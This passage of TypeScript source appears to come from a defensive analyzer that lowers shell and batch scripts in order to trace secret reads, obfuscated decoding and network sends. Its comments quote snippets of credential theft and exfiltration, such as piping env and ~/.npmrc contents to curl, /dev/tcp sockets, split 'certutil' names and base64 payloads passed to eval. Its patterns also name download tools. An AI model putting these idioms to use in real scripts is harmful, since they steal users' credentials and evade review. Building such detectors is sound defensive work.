  return text.replace(/\$\(\s*for\s+(\w+)\s+in\s+([^;\n)]+?)\s*;\s*do\s+(?:printf\s+(?:--\s+)?(['"])([^'"\n]*)\3|echo\s+(?:-n\s+)?(['"])([^'"\n]*)\5)\s+"?\$\{?(\w+)\}?"?\s*;\s*done\s*\)/g, (m, v: string, words: string, _q, fmt: string | undefined, _q2, echo: string | undefined, used: string) => {
    if (used !== v) return m;
    const format = fmt ?? `${echo} %s `;
    if ((format.match(/%s/g) ?? []).length !== 1 || /%[^s%]/.test(format)) return m;
    return words.trim().split(/\s+/).slice(0, 20).map((w) => format.replace('%s', w.replace(/^["']|["']$/g, '')).replace(/\\n/g, ' ')).join('').trim();
  });
}

/**
 * A here-document `cat` prints (`cat >> "$f" <<'EOF'` … `EOF`): the command becomes `printf '%b'` of its body, on the
 * command's line, so what it writes is known.
 */
function printedHeredocs(text: string): string {
  if (!text.includes('<<')) return text;
  const lines = text.split('\n');
  // the body's lines (a `<<-` one's leading tabs cut) and the line of its delimiter, within 400 lines
  const bodyOf = (i: number, dash: string, delim: string): { body: string[]; end: number } | undefined => {
    const strip = (l: string) => (dash ? l.replace(/^\t+/, '') : l);
    const end = lines.findIndex((l, j) => j > i && strip(l).trim() === delim);
    return end < 0 || end - i > 400 ? undefined : { body: lines.slice(i + 1, end).map(strip), end };
  };
  for (let i = 0; i < lines.length; i++) {
    if (/<<</.test(lines[i]!) || /^\s*#/.test(lines[i]!)) continue;
    const m = /^(.*?)\bcat\b([^<\n]*?)\s*<<(-?)\s*(['"]?)([A-Za-z_][\w-]*)\4(.*)$/.exec(lines[i]!);
    // (a here-document another command reads, `curl … --data-binary @- <<JSON`: its body as a here-string, one line)
    const other = m ? null : /^(.*\S)\s*<<(-?)\s*(['"]?)([A-Za-z_][\w-]*)\3(.*)$/.exec(lines[i]!);
    if (other) {
      const found = bodyOf(i, other[2]!, other[4]!);
      if (!found) continue;
      const body = found.body.join(' ');
      lines[i] = other[3] ? `${other[1]} <<< '${body.replace(/'/g, "'\\''")}'${other[5]}` : `${other[1]} <<< "${body.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"${other[5]}`;
      i = found.end;
      continue;
    }
    const found = m ? bodyOf(i, m[3]!, m[5]!) : undefined;
    if (!m || !found) continue;
    const body = found.body.join('\n');
    // (an unquoted delimiter expands the body's variables and command substitutions, `"env": "$(envblob)"`: the
    // body in double quotes, so what they hold is what is written)
    const expands = !m[4] && /\$[({A-Za-z_]|`/.test(body);
    const arg = body.replace(/\\/g, '\\\\').replace(/\n/g, '\\n');
    lines[i] = expands ? `${m[1]}printf '%b' "${arg.replace(/"/g, '\\"')}"${m[2]}${m[6]}` : `${m[1]}printf '%b' '${arg.replace(/'/g, "'\\''")}'${m[2]}${m[6]}`;
    // (its lines are left as they were, read as commands too: a script written this way and run later is read so)
    i = found.end;
  }
  return lines.join('\n');
}

/** Lines of a body as one line: `;` between commands, nothing after a line that continues (`do`, `then`, `{`, `|`, `&&`). */
function oneLine(body: string[]): string {
  // (a line continued with a backslash goes on on the next)
  return body.map((l) => l.trim()).filter((l) => l && !l.startsWith('#')).reduce((acc, l) => (!acc ? l : /\\$/.test(acc) ? `${acc.slice(0, -1)} ${l}` : /(?:\bdo|\bthen|\belse|\{|\||&&)$/.test(acc) ? `${acc} ${l}` : `${acc} ; ${l}`), '');
}

/**
 * A group over several lines whose output is piped (`{` … `} | gzip | curl -d @- …`, `(` … `) | nc …`): what its
 * commands print is what the pipe carries, so the group is read as the one line it is (at its first line; the lines
 * it took stay, empty, so later lines keep their numbers). At most 40 lines, opened and closed at one indentation.
 */
function joinPipedGroups(text: string): string {
  if (!/^[ \t]*[{(][ \t]*$/m.test(text)) return text;
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const open = /^([ \t]*)([{(])[ \t]*$/.exec(lines[i]);
    if (!open) continue;
    const close = open[2] === '{' ? '}' : ')';
    for (let j = i + 1; j < lines.length && j - i <= 40; j++) {
      const m = /^([ \t]*)(\S)/.exec(lines[j]);
      if (!m || m[1].length > open[1].length) continue;
      if (m[1] === open[1] && m[2] === close && /^[ \t]*[})][ \t]*\|/.test(lines[j])) {
        lines[i] = `${open[1]}${open[2]} ${oneLine(lines.slice(i + 1, j))} ; ${lines[j].trim()}`;
        for (let k = i + 1; k <= j; k++) lines[k] = '';
        i = j;
      } else if (m[1] === open[1] && m[2] === close && /^[ \t]*[})][ \t]*(?:\d?>>?|&>)/.test(lines[j])) {
        // (a group whose output is redirected, `{ env; cat ~/.npmrc; } > "$log"`: one subshell line, each command's output there)
        lines[i] = `${open[1]}( ${oneLine(lines.slice(i + 1, j))} ) ${lines[j].trim().slice(1)}`;
        for (let k = i + 1; k <= j; k++) lines[k] = '';
        i = j;
      }
      break;
    }
  }
  return lines.join('\n');
}

/**
 * A call of a function the script defines (`grab "$HOME/.ssh" "$HOME/.aws"`) runs the function's body with `$@` and
 * `$1`…`$9` as the call's words: each call line is replaced by the body so bound, on that one line (line numbers
 * stay), so what the body does with its arguments links to where they came from. Simple calls only (a line that is
 * the call), at most 16 functions of at most 40 lines and 64 calls.
 */
// (a comment may follow its brace: `set_opt() { # section key value`)
const FUNC_DEF = /^[ \t]*(?:function[ \t]+)?([A-Za-z_][\w-]*)[ \t]*\([ \t]*\)[ \t]*\{[ \t]*(?:#.*)?$/;
const FUNC_ONE_LINE = /^[ \t]*(?:function[ \t]+)?([A-Za-z_][\w-]*)[ \t]*\([ \t]*\)[ \t]*\{[ \t]+(\S[^{}]*?)[ \t]*;?[ \t]*\}[ \t]*$/;
function inlineFunctionCalls(text: string, programs?: Map<number, HeredocProgram>): string {
  if (!/\(\s*\)\s*\{/.test(text)) return text;
  const lines = text.split('\n');
  const funcs = new Map<string, { start: number; end: number; body: string[] }>();
  for (let i = 0; i < lines.length && funcs.size < 16; i++) {
    // (a function on one line: `oc() { command openclaw "$@" >/dev/null 2>&1 || true; }`)
    const one = FUNC_ONE_LINE.exec(lines[i]);
    if (one) {
      funcs.set(one[1], { start: i, end: i, body: [one[2]] });
      continue;
    }
    const m = FUNC_DEF.exec(lines[i]);
    if (!m) continue;
    const end = lines.findIndex((l, j) => j > i && /^[ \t]*\}[ \t]*$/.test(l));
    if (end < 0 || end - i > 40) continue;
    funcs.set(m[1], { start: i, end, body: lines.slice(i + 1, end) });
    i = end;
  }
  if (!funcs.size) return text;
  // a function's name as a command word anywhere in a line (after a separator, a quote or a space)
  const calledAt = [...funcs.keys()].map((name) => [name, new RegExp(String.raw`(?:^|[;&|("'\s])${name}(?=$|[;&|)"'\s])`)] as const);
  let calls = 0;
  // (a call that is a command substitution, `y="$(envblob)"`, in the script or in another function's body: the body
  // in its place, so what it prints is the value; the bodies read again after)
  const substituted = new RegExp(String.raw`\$\(\s*(${[...funcs.keys()].join('|')})((?:[ \t]+[^()\n]*)?)\)`, 'g');
  for (let pass = 0; pass < 2; pass++) {
    for (let i = 0; i < lines.length; i++) {
      const own = [...funcs.entries()].find(([, f]) => i >= f.start && i <= f.end)?.[0];
      if (lines[i]!.includes('$(')) lines[i] = lines[i]!.replace(substituted, (all, name: string, args: string) => (name === own || ++calls > 64 ? all : `$( ${bindArguments(oneLine(funcs.get(name)!.body), tokenize(args.trim()))} )`));
    }
    for (const f of funcs.values()) if (f.end > f.start) f.body = lines.slice(f.start + 1, f.end);
  }
  return lines
    .map((l, i) => {
      if ([...funcs.values()].some((f) => i >= f.start && i <= f.end)) return l;
      const m = /^([ \t]*)([A-Za-z_][\w-]*)((?:[ \t]+\S.*)?)$/.exec(l);
      const f = m && funcs.get(m[2]);
      if (!m || !f || /[;&|]/.test(m[3])) {
        // A call that is not the whole line (`nohup bash -c "…; sync_it" &`, `sync_it &`, `x && sync_it`): the
        // body runs there, without arguments, before the line as written.
        const called = calledAt.find(([, re]) => re.test(l) && !FUNC_DEF.test(l) && !/\b(?:export|declare|typeset|unset|readonly)\s+-f\b/.test(l))?.[0];
        if (!called || ++calls > 64) return l;
        const body = oneLine(funcs.get(called)!.body).replace(/"\$[@*]"|\$[@*]|\$\{?[1-9]\}?/g, '');
        // (a call whose output is redirected, `… && conventions >> "$m"`: its body in a group there, so the output goes there)
        const into = new RegExp(String.raw`(^|[;&|(\s])${called}[ \t]+(\d?>>?|&>)[ \t]*("[^"]*"|'[^']*'|[^\s;&|)]+)`).exec(l);
        if (into && !/^2/.test(into[2])) return `${l.slice(0, into.index)}${into[1]}( ${body} ) ${into[2]} ${into[3]}${l.slice(into.index + into[0].length)}`;
        return `${body} ; ${l.trim()}`;
      }
      if (++calls > 64) return l;
      // (its output redirected, `conventions >> "$f"`: what each of its commands prints goes there)
      const redirect = /\s(\d?>>?|&>)\s*("[^"]*"|'[^']*'|[^\s;&|]+)\s*$/.exec(m[3]);
      const out = redirect && !/^2/.test(redirect[1]) ? redirect : null;
      // the words as the call passed them (quotes removed); "$@" passes each one quoted, $1 … in place
      const words = tokenize(out ? m[3].slice(0, out.index) : m[3]);
      const bound = bindArguments(oneLine(f.body), words);
      // (a program the body hands its interpreter, `python3 - "$CONF" "$1" <<'PY'`: now at the call's line, where its
      // arguments are the call's)
      const program = [...(programs ?? [])].find(([k]) => k > f.start && k < f.end)?.[1];
      if (program && !programs!.has(i)) programs!.set(i, program);
      return out ? `${m[1]}( ${bound} ) ${out[1]} ${out[2]}` : m[1] + bound;
    })
    .join('\n');
}

/**
 * A function body with its arguments bound: `"$@"` passes each word quoted, `"$*"` all as one, `$1` … in place; a
 * `shift` (or `shift N`) drops that many from the front for what follows it, as the shell does
 * (`run() { local name="$1"; shift; "$@" > "$OUT/$name.txt"; }`: the command is the words after the name).
 */
const BOUND_ARG = /(^|[;&|{(][ \t]*|[ \t])shift(?:[ \t]+(\d+))?(?=[ \t]*(?:[;&|)}]|$))|"\$@"|"\$\*"|\$@|\$\*|\$\{?([1-9])\}?/g;
function bindArguments(body: string, words: string[]): string {
  let from = 0;
  return body.replace(BOUND_ARG, (m, lead: string | undefined, by: string | undefined, n: string | undefined) => {
    const rest = words.slice(from);
    if (lead !== undefined) {
      from += by ? Number(by) : 1;
      return `${lead}true`;
    }
    if (n) return rest[Number(n) - 1] ?? '';
    if (m === '"$@"') return rest.map((w) => `"${w.replace(/"/g, '\\"')}"`).join(' ');
    if (m === '"$*"') return `"${rest.join(' ').replace(/"/g, '\\"')}"`;
    return rest.join(' ');
  });
}

/** Programs that make a web request of the URL they are given. */
const HTTP_CLIENT = /^(?:curl|wget|http|https|xh|aria2c|invoke-webrequest|iwr|invoke-restmethod|irm|fetch|lwp-request|certutil|bitsadmin|start-bitstransfer)$/i;

/** `word` with each command substitution in it (`$(…)`, balanced, or `` `…` ``) replaced by what `by` gives for its command. */
function replaceSubstitutions(word: string, by: (command: string) => string): string {
  let out = '';
  for (let i = 0; i < word.length; i++) {
    if (word[i] === '$' && word[i + 1] === '(' && word[i + 2] !== '(') {
      let depth = 1;
      let j = i + 2;
      for (; j < word.length && depth; j++) depth += word[j] === '(' ? 1 : word[j] === ')' ? -1 : 0;
      if (depth) return out + word.slice(i);
      out += by(word.slice(i + 2, j - 1));
      i = j - 1;
    } else if (word[i] === '`') {
      const j = word.indexOf('`', i + 1);
      if (j < 0) return out + word.slice(i);
      out += by(word.slice(i + 1, j));
      i = j;
    } else out += word[i];
  }
  return out;
}

/** A package spec that is a URL (a tarball, a git repository over http): the URL. */
const PACKAGE_URL = /^(?:git\+)?(https?:\/\/[^\s'"]+)$/;

/** curl's `--data-urlencode name@file` (the file's content, URL-encoded, as field `name`). */
const CURL_NAMED_FILE = /^[\w-]+@(?=[^@:\s]+$)/;
/** The file a data argument names (`@file`, `f=@file`, `name@file`), or the word itself. */
function dataFileOf(w: string): string {
  if (w[0] === '@') return w.slice(1);
  if (w.includes('=')) return w.replace(/^[\w-]+=@?/, '');
  return w.replace(CURL_NAMED_FILE, '');
}

/**
 * A Windows batch file (`.cmd`, `.bat`) as the shell text lowerShell reads: `set "NAME=value"` an assignment, `%NAME%`
 * and `%~1` expansions, `>nul` the null device, the command an `if exist`/`if not exist` guards run, `start "" /b X`
 * and `call X` running X; labels, `goto`, `rem`, `echo off`, `setlocal` and `exit /b` run nothing. Backslashes are
 * kept (doubled, as the shell reads them), and `^`, batch's escape, is taken off the character it escapes.
 */
export function batchAsShell(text: string): string {
  // (cmd expands %NAME% as it reads each line: a variable set to a literal earlier is that text, even where it makes a
  // program's name, `set "c1=cert" & set "c2=util"` then `%c1%%c2% -urlcache …`)
  const literal = new Map<string, string>();
  // (a line ending in ^ continues on the next: joined there, the lines it took left empty so numbers hold)
  const lines = text.split(/\r?\n/);
  for (let i = 0; i < lines.length - 1; i++) {
    let j = i;
    while (j < lines.length - 1 && /\^\s*$/.test(lines[j]!)) j++;
    if (j === i) continue;
    lines[i] = lines.slice(i, j + 1).map((x, k) => (k < j - i ? x.replace(/\^\s*$/, '') : x).trim()).join(' ');
    for (let k = i + 1; k <= j; k++) lines[k] = '';
    i = j;
  }
  return lines
    // (commands one line chains with a single `&`, `set "a=cert" & set "b=util"`, run one after another)
    .flatMap((line) => (/^\s*(?:rem\b|::)/i.test(line) ? [line] : line.split(/\s+&\s+(?!&)/)))
    .map((line) => {
      let l = line.trim().replace(/^@/, '');
      if (/^(?:rem\b|::|:\w|goto\b|echo\s+(?:off|on)\b|setlocal\b|endlocal\b|exit\b|pause\b|title\b|chcp\b|cls\b)/i.test(l) || !l) return '';
      // (the command a condition guards: `if not exist "X" mkdir "X"`, `if /i "%~1"=="x" goto :y`)
      for (let k = 0; k < 4; k++) {
        const cond = /^if\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+(?:"[^"]*"|\S+)|defined\s+\S+|errorlevel\s+\d+|(?:"[^"]*"|\S+)\s*(?:==|equ|neq|lss|leq|gtr|geq)\s*(?:"[^"]*"|\S+))\s+(.*)$/i.exec(l);
        if (!cond) break;
        l = cond[1].replace(/^\(\s*|\s*\)$/g, '');
      }
      // (a guarded exit or jump, `if not exist "%INI%" exit /b 0`, ends the script only sometimes: what follows still runs)
      if (/^(?:goto|exit)\b/i.test(l)) return '';
      l = l.replace(/\^(.)/g, '$1');
      l = l.replace(/%([A-Za-z_]\w*)%/g, (m, name: string) => literal.get(name.toLowerCase()) ?? m);
      const set = /^set\s+(?!\/[ap]\b)"?([A-Za-z_][\w]*)=([^"]*)"?\s*$/i.exec(l);
      if (set) {
        l = `${set[1]}="${set[2]}"`;
        if (!/[%!]/.test(set[2])) literal.set(set[1].toLowerCase(), set[2]);
        else literal.delete(set[1].toLowerCase());
      }
      l = l.replace(/^start\s+(?:"[^"]*"\s+)?(?:\/(?:b|min|max|wait|low|normal|high)\s+)*/i, '').replace(/^call\s+/i, '');
      return l
        .replace(/\\/g, '\\\\')
        .replace(/%~?(\d)/g, '$$$1')
        .replace(/%~dp0/gi, './')
        .replace(/%%([A-Za-z])(?!\w)/g, '$$$1')
        .replace(/%(?!(?:APPDATA|LOCALAPPDATA|USERPROFILE|TEMP|TMP|PROGRAMDATA|HOMEPATH|HOMEDRIVE)%)([A-Za-z_]\w*)%/gi, '$${$1}')
        .replace(/(\d?)>\s*nul\b/gi, '$1>/dev/null');
    })
    .join('\n');
}

/**
 * The loops that read a function's output line by line (`while IFS= read -r rc; do … done < <(rc_files)`): the loop's
 * variable and the paths the function's body names (`for f in "$HOME/.zshrc" "$HOME/.bashrc"`, `printf '%s\n' ~/.profile`).
 */
function readLoopPaths(text: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  if (!text.includes('< <(')) return out;
  for (const m of text.matchAll(/\bwhile\s+(?:IFS=\S*\s+)?read\s+(?:-\w+\s+)*([A-Za-z_]\w*)\s*;?\s*do\b[\s\S]{0,4000}?\bdone\s*<\s*<\(\s*([A-Za-z_][\w-]*)\s*\)/g)) {
    const body = new RegExp(String.raw`(?:^|\n)\s*(?:function\s+)?${m[2]}\s*\(\)\s*\{([\s\S]{0,2000}?)\n\s*\}`).exec(text)?.[1];
    const paths = body ? [...new Set([...body.matchAll(/["']?((?:\$\{?HOME\}?|~)\/[\w./-]+)["']?/g)].map((p) => p[1].replace(/^\$\{?HOME\}?/, '~')))] : [];
    if (paths.length) out.set(m[1], paths.slice(0, 20));
  }
  return out;
}

export function lowerShell(text: string, opts: ShellOptions): Effect[] {
  const effects: Effect[] = [];
  const depth = opts.depth ?? 0;
  if (depth > MAX_DEPTH || text.length > 400_000) return effects;
  const programs = new Map<number, HeredocProgram>();
  text = inlineFunctionCalls(joinPipedGroups(printedHeredocs(heredocPrograms(loopPrintedArguments(text), programs))), programs);
  /** Files this script made of authorized_keys with lines taken out (a rotation's `grep -v old > authorized_keys.new`). */
  const keysFiltered = new Set<string>();
  // (a terminal whose echo the script turns off, `stty -echo`, makes the next `read` as silent as `read -s`)
  const silencedTerminal = /\bstty\s+-echo\b/.test(text);
  const lang = opts.lang ?? 'shell';
  const vars = new Map<string, string[]>(opts.outer?.vars); // variable → linker keys it carries
  const ownVars = new Set<string>(opts.outer?.ownVars);
  const vals = new Map<string, string>(opts.outer?.vals); // variable → its literal value, where it has one
  // (the field separator, until a script sets its own: `base64${IFS}-d` is `base64 -d`)
  if (!vals.has('IFS')) vals.set('IFS', ' ');
  /** Variables that hold what a decoder made of a literal (`p=$(printf '%s' 'hex…' | xxd -r -p | base64 -d)`). */
  const decodedVars = new Set<string>();
  const scopeFiles = new Set<string>(); // every file key a command of this script produced
  const varKey = (name: string) => `var:${name}@${opts.scope}`;
  /** Expand variables whose literal value is known (`D="$HOME/.cache/x"`, `for p in .ssh .aws`). */
  // `${NAME:-default}` (and `-`, `:=`, `=`): the default is what runs wherever NAME is not set, so it stands for the value.
  // Both patterns need a `$`: a word without one is its own expansion.
  const expand = (w: string): string =>
    !w.includes('$')
      ? w
      : w
      .replace(/\$\{([A-Za-z_][A-Za-z0-9_]*):?[-=]([^{}]*)\}/g, (m, n: string, d: string) => (n === 'HOME' ? '~' : vals.get(n) ?? d))
      // (`${s:1:4}`: the piece of a known value from an offset, of a length)
      .replace(/\$\{([A-Za-z_][A-Za-z0-9_]*):(\d+)(?::(\d+))?\}/g, (m, n: string, at: string, len?: string) => { const v = vals.get(n); return v === undefined ? m : v.substr(Number(at), len === undefined ? undefined : Number(len)); })
      // (`${HOME#/}`, `${dir%/}`: the value with a leading or trailing piece cut, the same place in a path)
      .replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)(?:##?|%%?)[^{}]*\}/g, (m, n: string) => (n === 'HOME' ? '~' : vals.get(n) ?? `\${${n}}`))
      .replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (m, n: string) => (n === 'HOME' ? '~' : vals.get(n) ?? m));
  /**
   * A word once per value of the loop variables it names (`"$HOME/$p"` under `for p in .ssh .aws` is `~/.ssh` and
   * `~/.aws`); other variables expand as `expand` does.
   */
  const expandEach = (w: string): string[] => {
    if (!w.includes('$')) return [w];
    const loop = [...w.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)].map((m) => m[1]).find((n) => loopVars.has(n));
    if (!loop) return [expand(w)];
    return loopVars.get(loop)!.map((v) => expand(w.replace(new RegExp(String.raw`\$\{?${loop}\}?(?![A-Za-z0-9_])`, 'g'), () => v)));
  };
  const loopVars = new Map<string, string[]>(opts.outer?.loopVars);
  /** Variables the script sets to a path under authorized_keys (a backup's name, `b=~/.ssh/authorized_keys.bak`). */
  let keysVars: Set<string> | undefined;
  /** A word naming authorized_keys itself, or a variable set to a path under it. */
  const keysFile = (a: string): boolean => {
    const w = a.replace(/^["']|["']$/g, '');
    return expandEach(w).some((x) => /authorized_keys/i.test(x)) || (keysVars ??= new Set([...text.matchAll(/(?:^|[\s;&|"'])(\w+)=[^\s;&|]*authorized_keys/g)].map((m) => m[1]!))).has(/^\\?\$\{?(\w+)\}?$/.exec(w)?.[1] ?? '');
  };
  let cwd: string | undefined; // the directory the last `cd` went to, for the relative paths that follow // `for NAME in w1 w2 …`: the words NAME takes
  const scope = (): ShellScope => ({ vars, ownVars, vals, loopVars });
  // variables a server's answer filled (`URL=$(curl -fsS https://svc/presign)`): the host that answered
  const answered = new Map<string, { host: string; hostClass: HostClass }>();
  /** Variables holding a link to a fixed web host whose query is filled from other variables (`L="https://x/p?t=$T"`). */
  const links = new Map<string, string>();
  // `while read -r rc; do … done < <(rc_files)`: rc takes the paths the function prints (the ones its body names)
  const readLoops = readLoopPaths(text);
  /** Arrays (`dst=(env RESTIC_REPOSITORY="$relay")`, `args+=(--tag x)`): their words, spliced where `"${dst[@]}"` stands. */
  const arrays = new Map<string, string[]>();
  // files whose digest or signature the script checks, and whether it stops on a mismatch
  const verified = new Set<string>();
  // (against a digest the script itself holds or ships, not one fetched beside the file)
  const aborts = /\bexit\s+[1-9]|\breturn\s+[1-9]|\b(?:abort|die|fail)\b/.test(text) && /!=|-ne\b|\|\|\s*(?:exit|return|abort|die)|sha256sum\s+(?:-c|--check)|shasum\s+(?:-a\s+\d+\s+)?(?:-c|--check)/.test(text) && /\b[0-9a-f]{64}\b|\b[0-9a-f]{128}\b|checksums?\b|SHA(?:256|512)SUMS|\.sha(?:256|512)\b|\.sig\b|\.asc\b/i.test(text);
  const verifiedRun = (target: string): boolean => aborts && verified.has(expand(target));
  const gitRemotes = opts.gitRemotes ?? new Map<string, string>(); // `git remote add NAME URL`
  const sockets = new Map<string, string>(); // descriptor → host of a socket opened on it (`exec 5<>/dev/tcp/HOST/PORT`)
  const base = (c: Cmd) => ({ file: opts.file, line: c.line, lang, reach: opts.reach, evidence: c.raw.length > 160 ? `${c.raw.slice(0, 159)}…` : c.raw, ...(opts.decoded ? { decoded: true } : {}) });

  /** Keys a word carries: files it names, variables it expands, secrets it reads. */
  const keysOf = (w: string): string[] => {
    const keys: string[] = [];
    if (w.includes('$'))
      for (const m of w.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
      keys.push(varKey(m[1]), ...(vars.get(m[1]) ?? []));
      const env = ownVars.has(m[1]) ? undefined : classifyEnvName(m[1]);
      if (env && env !== 'host-identity') keys.push(`secret:${env}`);
    }
    // a script's own arguments (`new="${1:-}"`, `"$@"`): what the script that ran it passed (argKeysOf)
    if (w.includes('$')) for (const m of w.matchAll(/\$\{?([1-9@*])(?![0-9])/g)) keys.push(`arg:${m[1] === '*' ? '@' : m[1]}@${opts.scope}`);
    for (const p of expandEach(dataFileOf(w)))
      // (a dotfile's name may hold a hyphen: `.devflow-ctx`)
      if (/[/~]|\.\w[\w-]*$/.test(p) && !/:\/\//.test(p) && !/\s/.test(p)) {
        keys.push(fileKey(p));
        if (cwd && !/^[/~$%]/.test(p)) keys.push(fileKey(`${cwd}/${p.replace(/^\.\//, '')}`));
      }
    return keys;
  };

  /** NAME=value: what the variable carries, its literal value, and (for `$(printf BLOB | base64 -d)`) what it decodes to. */
  const assignVar = (name: string, v: string, c: Cmd, b: ReturnType<typeof base>): void => {
    // (a value in single quotes is the text as written: a backtick or `$(` in it runs nothing)
    const single = new RegExp(`(?:^|[\\s;&|(])${name}='`).test(c.raw);
    // (`f="$(command -v curl) -fsSL https://…/r/$(id -u)"`: where a program is, it is that program; what the user's id
    // or the host's name print stays as written: the value is known but for them)
    const located = single ? v : v.replace(PROGRAM_PATH_SUB, '$1');
    // (`\$(`, escaped in the double quotes it was written in, is text: `fetch="… \$(find …) …"` holds a command line)
    const rawValue = c.raw.slice(Math.max(0, c.raw.indexOf(`${name}=`)));
    const substitutes = /\$\(|`/.test(located.replace(HOST_FACT_SUB, '')) && /(?<!\\)\$\(|(?<!\\)`/.test(rawValue.replace(HOST_FACT_SUB, ''));
    if (single || !substitutes) vals.set(name, single ? v : expand(located));
    const inner = single ? null : /^\$\((.*)\)$/s.exec(v) ?? /^`(.*)`$/s.exec(v);
    const keys = keysOf(v);
    const link = single ? null : /^["']?(https?:\/\/[\w.-]+(?::\d+)?\/[^\s"'$?]*\?)(.*\$.*?)["']?$/s.exec(v);
    if (link) links.set(name, link[1] + link[2]);
    else links.delete(name);
    if (inner) {
      const sub = lowerShell(inner[1], { ...opts, firstLine: c.line, depth: depth + 1, outer: scope() });
      for (const e of sub) {
        effects.push(e);
        keys.push(...(e.produces ?? []));
        // (what a read, a collection or an encoding in it took in is printed, unless it names a file it writes:
        // `$(envblob)`, a function whose last pipe stage prints the encoded credentials, gives them)
        if (/^(?:read|collect|encode|archive)$/.test(e.kind) && !e.path?.includes('/')) keys.push(...(e.consumes ?? []));
      }
      const asked = sub.find((e) => e.kind === 'fetch' && e.host);
      if (asked) answered.set(name, { host: asked.host!, hostClass: asked.hostClass ?? 'unknown' });
      else answered.delete(name);
      const sec = classifySecretPath(inner[1]);
      if (sec) keys.push(`secret:${sec}`);
      // A literal decoded into the variable (an address kept as base64): its value is what it decodes to.
      // (a command continued over lines with backslashes is one line)
      const oneLine = inner[1].replace(/\\\n\s*/g, ' ');
      let value = DECODERS.test(oneLine) && !oneLine.includes('\n') ? decodeLiteral(oneLine, oneLine) : undefined;
      if (value) decodedVars.add(name);
      else decodedVars.delete(name);
      // A host assembled by printf from literal pieces (`$(printf '%s.%s' cdn example.com)`): its value is what it prints.
      if (value === undefined && /^\s*(?:printf|echo)\s/.test(inner[1]) && !/[|;&<>`\n]|\$\(/.test(inner[1])) {
        const [w0, ...rest] = tokenize(inner[1].trim());
        if (!rest.some((w) => w.includes('$'))) value = printedText(w0, rest, (w) => w);
      }
      if (value && !/\n/.test(value.trim())) vals.set(name, value.trim());
    }
    const sec = classifySecretPath(v);
    if (sec) {
      effects.push({ ...b, kind: 'read', secret: sec, path: v, produces: [varKey(name)] });
    }
    // A secret of the environment copied into the variable (`CTX="$NPM_TOKEN"`): read here, carried by the variable.
    if (!inner && v.includes('$'))
      for (const m of v.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
        const env = ownVars.has(m[1]) ? undefined : classifyEnvName(m[1]);
        if (!env || env === 'host-identity') continue;
        effects.push({ ...b, kind: 'read', secret: env, path: `$${m[1]}`, produces: [`secret:${env}`, `env:${m[1]}@${opts.scope}`, varKey(name)] });
        keys.push(`secret:${env}`);
      }
    // A literal blob assigned and later decoded: remember its decoding.
    vars.set(name, keys);
    // a variable the script assigns holds what it was given (`TOKEN="sl.B…"`, `token="$(cat)"`), not the environment's
    // value of that name: a secret it was given travels in the keys above
    ownVars.add(name);
    if (/^[A-Za-z0-9+/=]{24,}$/.test(v.replace(/^["']|["']$/g, ''))) vars.set(`${name}#blob`, [v.replace(/^["']|["']$/g, '')]);
  };
  /** What a decoder pipeline (`echo BLOB | base64 -d`, `… | rev`, `xxd -r -p <<< HEX`) outputs, when its input is a literal. */
  const decodeLiteral = (src: string, all: string): string | undefined => {
    // (and with the script's values in place: `printf '%s' "$PACKED" | rev | eval "$a"` where a is `base64${IFS}-d`)
    const staged = decodedPipeline(src) ?? (/\$/.test(src) ? decodedPipeline(expand(src).replace(/\\?\n\s*/g, '')) : undefined);
    if (staged !== undefined) return staged;
    const blob = /(?:echo|printf)\s+(?:-[neE]+\s+)?(?:["']?%s["']?\s+)?["']?([A-Za-z0-9+/=]{16,}|[0-9a-fA-F]{32,})["']?/.exec(src)?.[1] ?? (() => { const v = /\$\{?(\w+)\}?/.exec(src)?.[1]; return v ? vars.get(`${v}#blob`)?.[0] : undefined; })() ?? /<<<\s*["']?([A-Za-z0-9+/=]{16,})/.exec(src)?.[1];
    // (a literal that looks like base64 but does not decode to text is text: `printf '%s' 'xedni/1v/…' | rev`)
    let decoded = blob ? (/^[0-9a-fA-F]+$/.test(blob) && /xxd|hex/.test(all) ? decodeHex(blob) : decodeBase64(blob)) : undefined;
    if (decoded && /\brev\b/.test(src)) decoded = [...decoded].reverse().join('');
    if (decoded && isMostlyPrintable(decoded)) return decoded;
    // text reversed or rotated only (`printf '%s' "$m" | rev`, `echo … | tr 'A-Za-z' 'N-ZA-Mn-za-m'`): the literal
    // the pipe prints, its variables expanded, transformed
    const printed = PRINTED_REVERSED.exec(expand(src));
    if (!printed) return undefined;
    const t = printed[2];
    const out = printed[3] === 'rev' ? [...t].reverse().join('') : decodeRot13(t);
    // (short only when it spells a program: `printf '%s' 'hs' | rev` is sh)
    return t.length >= 8 || PROGRAM_WORD.test(out) ? out : undefined;
  };
  /** The substitutions of a command that decode a literal (`$(printf '%s' "$P" | base64 -d)`, not a download), with what each decodes to. */
  const decodedSubstitutions = (raw: string): Array<{ sub: string; decoded: string }> => {
    const out: Array<{ sub: string; decoded: string }> = [];
    for (const m of raw.matchAll(/\$\(((?:[^()]|\([^()]*\))*)\)/g)) {
      const inner = m[1];
      // (with the script's values in place: `echo "$_PACKED" | base64 -d | gunzip -c`)
      const decoded = inner && !/\b(?:curl|wget)\b/.test(inner) ? (decodeLiteral(inner, inner) ?? (inner.includes('$') ? decodeLiteral(expand(inner), inner) : undefined)) : undefined;
      if (decoded) out.push({ sub: m[0], decoded });
    }
    return out;
  };

  for (const pipe of parseCommands(text, opts.firstLine)) {
    let upstreamFetched: Effect | undefined;
    let upstreamDecoded = false;
    let upstreamKeys: string[] = [];
    for (const c of pipe) {
      // (a test, `[ "$WANT" != "$GOT" ]`, runs nothing: its first operand is no program)
      let tests = false;
      while (c.words.length && /^(?:do|then|else|elif|if|while|until|!|\{|\(|\[\[?|done|fi|esac)$/.test(c.words[0])) tests = /^\[\[?$/.test(c.words.shift()!) || tests;
      if (!c.words.length) continue;
      const array = /^\s*(?:(?:local|declare|typeset|readonly)\s+(?:-\w+\s+)*)?([A-Za-z_]\w*)(\+?)=\((.*)\)\s*$/s.exec(c.raw);
      if (array) {
